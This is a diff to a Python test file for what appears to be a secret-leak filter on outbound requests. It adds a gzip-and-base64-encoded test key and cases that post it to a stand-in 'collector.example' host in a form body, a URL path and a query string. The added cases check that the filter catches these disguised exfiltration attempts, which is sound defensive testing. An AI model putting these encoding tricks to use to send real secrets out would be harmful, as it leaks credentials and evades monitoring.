@@ -1,5 +1,6 @@
 """What becomes of a request, by whom it goes to."""
 
+import base64
 import gzip
 import io
 import zipfile
@@ -21,6 +22,12 @@ VALUE = "k3y-0f-th3-t3st-0001"
 CHAT = Destination("api.chat.example", 443)
 MODEL = Destination("api.model.example", 443)
 STRANGER = Destination("collector.example", 443)
+# Packed so that a plus sign stands in what is written, which is a blank in a form.
+PLUS = next(
+    run
+    for n in range(99)
+    if b"+" in (run := base64.b64encode(gzip.compress(f"{VALUE} {n}".encode(), mtime=0)))
+)
 FORM = ((b"Content-Type", b"application/x-www-form-urlencoded"),)
 
 
@@ -98,6 +105,9 @@ def test_a_form_with_two_meanings_is_refused() -> None:
         (post(STRANGER, VALUE.encode()), WATCHED),
         (post(STRANGER, b"a=" + VALUE.encode().replace(b"-", b"%2D"), b"/", *FORM), WATCHED),
         (post(STRANGER, f"{GITHUB} {VALUE}".encode()), WATCHED),
+        *((post(STRANGER, PLUS + end, b"/", *FORM), WATCHED) for end in (b"", b"&a=b")),
+        (post(STRANGER, b"", b"/" + PLUS), WATCHED),
+        (post(STRANGER, b"", b"/?" + PLUS), WATCHED),
     ],
 )
 def test_a_stranger_gets_no_secret_wherever_it_stands(asked: Outbound, rule: str) -> None:
